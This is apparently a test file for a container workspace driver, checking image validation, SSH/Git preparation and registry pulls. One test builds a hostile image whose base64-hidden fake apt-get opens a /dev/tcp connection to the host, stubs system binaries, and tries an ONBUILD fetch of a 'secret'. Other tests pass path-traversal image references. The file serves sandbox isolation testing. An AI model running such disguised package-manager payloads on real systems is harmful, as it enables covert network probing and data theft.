import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import t, { type Test } from 'tap';
import type { ImageProgress } from '../../../agent/driver.ts';
import { tarOf } from '../../../agent/drivers/tar.ts';
import { run } from '../../conformance/driver.ts';
import { type DockerNode, dockerNode } from '../../support/docker-node.ts';
import { noTestEngine } from '../../support/engine.ts';
import { buildTestImage, ensureTestImage, importTestImage } from '../../support/images.ts';
import { startRegistry } from '../../support/registry.ts';

t.setTimeout(300_000);
const skip = await noTestEngine();

/** Removes an image and its complete form with the test. */
function forget(t: Test, { docker }: DockerNode, ...references: string[]): void {
  t.teardown(async () => {
    for (const reference of references)
      await docker
        .getImage(reference)
        .remove({ force: true })
        .catch(() => {});
  });
}

t.test('an image that cannot become a workspace is refused with the reason', { skip }, async t => {
  const at = await dockerNode(t);
  const { driver, docker, node } = at;
  await ensureTestImage(docker, 'plain');
  const names = ['shell', 'manager', 'offline'].map(name => `nexus-test-${name}:${node}`);
  const [noShell, noManager, offline] = names as [string, string, string];
  await importTestImage(docker, noShell, { hello: 'not a program' });
  await buildTestImage(docker, noManager, 'FROM nexus-test:plain\nRUN rm /usr/bin/apt-get\n');
  await buildTestImage(
    docker,
    offline,
    'FROM nexus-test:plain\nRUN rm -rf /etc/apt/sources.list* && echo "deb http://127.0.0.1:1/ none main" > /etc/apt/sources.list\n',
  );
  forget(t, at, ...names);

  await t.rejects(driver.ensureImage(noShell), { code: 'ImageUnsupported', message: /no shell/ });
  await t.rejects(driver.ensureImage(noManager), { code: 'ImageUnsupported', message: /lacks sshd.*apt/ });
  await t.rejects(driver.ensureImage(offline), {
    code: 'ImageBuildFailed',
    // The end of what was said, and not the script that said it.
    message: /package manager ended with exit code 100\n(?![\s\S]*command -v)[\s\S]*127\.0\.0\.1/,
  });
  const helpers = await docker.listContainers({
    all: true,
    filters: { label: [`nexus.dev/helper=${node}`] },
  });
  t.same(helpers, [], 'nothing that looked into them is left');
});

t.test(
  'what is run of an image to add SSH and Git is held as workspaces are, and passes for none',
  { skip },
  async t => {
    const at = await dockerNode(t);
    const { driver, docker, node, spec } = at;
    await ensureTestImage(docker, 'plain');
    let asked = 0;
    const onNode = createServer(socket => {
      asked++;
      socket.on('error', () => {}).end('HTTP/1.0 200 OK\r\n\r\nsecret');
    }).listen(0, '0.0.0.0');
    await once(onNode, 'listening');
    t.teardown(() => onNode.close());
    const { port } = onNode.address() as AddressInfo;
    const [outside] = Object.values(networkInterfaces())
      .flatMap(addresses => addresses ?? [])
      .filter(({ family, internal }) => family === 'IPv4' && !internal);
    const manager = [
      '#!/bin/sh',
      '[ "$1" = install ] || exit 0',
      `timeout 2 bash -c 'exec 3<>/dev/tcp/${outside?.address}/${port}' && echo reached >>/seen`,
      'grep CapBnd /proc/self/status >>/seen',
      'for name in sshd ssh ssh-keygen git sudo tar ps flock setsid setpriv timeout stat sha256sum useradd; do',
      '  command -v $name >/dev/null || printf "#!/bin/sh\\n" >/usr/bin/$name',
      '  chmod 755 /usr/bin/$name',
      'done',
      'mkdir -p /etc/ssl/certs && echo x >/etc/ssl/certs/ca-certificates.crt',
    ];
    const image = `nexus-test-hostile:${node}`;
    const own = { 'nexus.dev/node': node, 'nexus.dev/placement': 'shop.ann', 'nexus.dev/workspace-uid': 'u' };
    await buildTestImage(
      docker,
      image,
      [
        'FROM nexus-test:plain',
        `RUN echo ${Buffer.from(manager.join('\n')).toString('base64')} | base64 -d >/usr/bin/apt-get`,
        ...Object.entries(own).map(([name, value]) => `LABEL ${name}=${value}`),
        `ONBUILD ADD http://127.0.0.1:${port}/ /stolen`,
        '',
      ].join('\n'),
    );
    forget(t, at, image);
    const began = Math.floor(Date.now() / 1000);
    const { id: made = '' } = (await driver.ensureImage(image)) ?? {};
    const history = (await docker.getEvents({
      since: began,
      until: Math.ceil(Date.now() / 1000),
      filters: { type: ['container'], event: ['start'], label: [`nexus.dev/node=${node}`] },
    })) as Readable;
    t.equal(await text(history), '', 'nothing that was run passed for an instance');
    const { id } = await driver.create({ ...spec('hostile'), imageId: made });
    await driver.start(id);
    const { stdout } = await run(driver, id, ['sh', '-c', 'cat /seen; grep CapBnd /proc/self/status']);
    const [during, inside] = stdout.trim().split('\n');
    t.equal(during, inside, 'with the rights of a workspace');
    t.equal((await run(driver, id, ['test', '-e', '/stolen'])).code, 1);
    t.equal(asked, 0, 'and no way to the node');
    await driver.remove(id);
    await docker.getImage(made).remove({ force: true });
  },
);

t.test('an image is pulled', { skip }, async t => {
  const at = await dockerNode(t);
  const { driver, docker } = at;
  const layer = await tarOf([{ name: 'data', content: Buffer.alloc(200_000, 'x'), mode: 0o644 }]);
  const registry = await startRegistry(layer);
  t.teardown(() => registry.close());
  const image = `${registry.host}/app:1`;
  forget(t, at, image);

  await t.test('only when asked for, and not at all when its registry has none', async t => {
    t.equal(await driver.ensureImage(image, { pull: false }), undefined);
    await t.rejects(driver.ensureImage(`${registry.host}/app:2`), { code: 'ImageNotFound' });
    await t.rejects(driver.ensureImage(`${registry.host}/other:1`), { code: 'ImageNotFound' });
    await t.rejects(driver.ensureImage(`sha256:${'0'.repeat(64)}`), { code: 'ImageNotFound' });
    for (const reference of ['Not An Image', '', '../../containers/json', 'a?all=1', 'x'.repeat(600)])
      await t.rejects(driver.ensureImage(reference, { pull: false }), { code: 'Invalid' });
    t.equal(registry.blobs, 0);
  });

  await t.test('no further when all who asked have given up', async t => {
    registry.hold();
    const [one, two] = [new AbortController(), new AbortController()];
    const both = [one, two].map(({ signal }) => driver.ensureImage(image, { signal }));
    const outcomes = Promise.allSettled(both);
    while (registry.blobs === 0) await new Promise(resolve => setImmediate(resolve));
    one.abort(new Error('one'));
    await t.rejects(both[0]!, { message: 'one' });
    two.abort(new Error('two'));
    await outcomes;
    await t.rejects(both[1]!, { message: 'two' });
    await t.rejects(docker.getImage(image).inspect(), /404/);
    registry.release();
  });

  await t.test('once for all who ask, with its progress', async t => {
    const before = registry.manifests;
    const progress: ImageProgress[] = [];
    const asked = [1, 2, 3].map(() =>
      driver.ensureImage(image, { onProgress: report => progress.push(report) }),
    );
    for (const outcome of asked) await t.rejects(outcome, { code: 'ImageUnsupported' }, 'it has no shell');
    t.ok(registry.manifests - before <= 2, 'a head and a body');
    t.match(progress.at(-1), { phase: 'pulling', percent: 100 });
    t.ok((await docker.getImage(image).inspect()).Id);
  });

  await t.test('or the failure is one that may pass', async t => {
    await docker.getImage(image).remove({ force: true });
    await registry.close();
    await t.rejects(driver.ensureImage(image), { code: 'ImagePullFailed', retryable: true });
  });
});
